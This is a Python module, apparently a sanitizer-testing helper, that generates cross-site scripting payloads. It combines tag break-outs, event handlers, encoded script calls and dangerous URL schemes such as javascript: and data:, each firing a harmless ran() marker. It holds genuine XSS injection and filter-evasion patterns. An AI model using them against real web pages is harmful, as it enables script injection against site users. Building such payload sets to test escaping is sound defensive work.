"""Texts that would run, if anything on their way took them for more than text."""

from itertools import islice, product

EVENTS = (
    "onerror onload onclick onfocus ontoggle onanimationstart onpointerenter onmouseover onwheel onbeforetoggle".split()
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe srcdoc=x",
    "a href=#",
    "x tabindex=1",
)
CALLS = ("ran()", "window['ran']()", "top.ran()", "self.ran``", "eval('ran()')", "setTimeout('ran()')", "&#114;an()")
OPENINGS = (
    "",
    '"',
    "'",
    "`",
    "-->",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "]]>",
    "\\x3c",
    '"><!--',
    "\u202e",
    "\x00",
)
SHELLS = (
    "{open}<{tag} {event}={call}>",
    "{open}<{tag}/{event}={call}//",
    "{open} {event}={call} x=",
    "{open}<script>{call}</script>",
    "{open}javascript:{call}",
    "{open}<a href=javascript:{call}>x</a>",
    "{open}<math><mi//xlink:href=data:x,<script>{call}</script>>",
    "{open}<svg><animate onbegin={call} attributeName=x dur=1s>",
    "{open}{{{{constructor.constructor('{call}')()}}}}",
    "{open}<style>@import 'javascript:{call}'</style>",
    "{open}<template shadowrootmode=open><script>{call}</script></template>",
    "{open}&lt;{tag} {event}={call}&gt;",
)

ADDRESSES = (
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    " javascript:ran()",
    "java\nscript:ran()",
    "data:text/html,<script>ran()</script>",
    "vbscript:ran()",
    "blob:x",
    "\x01javascript:ran()",
    "javascript&colon;ran()",
    "//evil.example/x",
    "view-source:x",
)


def payloads(number: int) -> list[str]:
    """Return so many payloads, all of them different, of every shape."""
    every = product(OPENINGS, EVENTS, CALLS, TAGS, SHELLS)
    made = dict.fromkeys(
        shell.format(open=opening, event=event, call=call, tag=tag) for opening, event, call, tag, shell in every
    )
    return list(islice(made, 0, None, len(made) // number))[:number]
